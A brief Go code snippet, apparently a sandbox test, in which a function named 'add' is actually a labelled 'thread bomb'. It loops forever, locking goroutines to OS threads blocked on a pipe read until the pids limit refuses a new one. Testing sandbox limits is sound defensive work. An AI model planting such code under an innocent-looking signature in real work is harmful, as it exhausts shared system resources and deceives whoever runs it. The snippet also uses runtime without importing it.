// Thread bomb: goroutines each locked to an OS thread and blocked in a system call, started
// one after the other, so the runtime must start a thread for each, until the pids limit
// refuses one.
import "syscall"

func add(a int, b int) int {
	var fds [2]int
	syscall.Pipe(fds[:])
	for {
		started := make(chan bool)
		go func() {
			runtime.LockOSThread()
			started <- true
			var buf [1]byte
			syscall.Read(fds[0], buf[:])
		}()
		<-started
	}
}
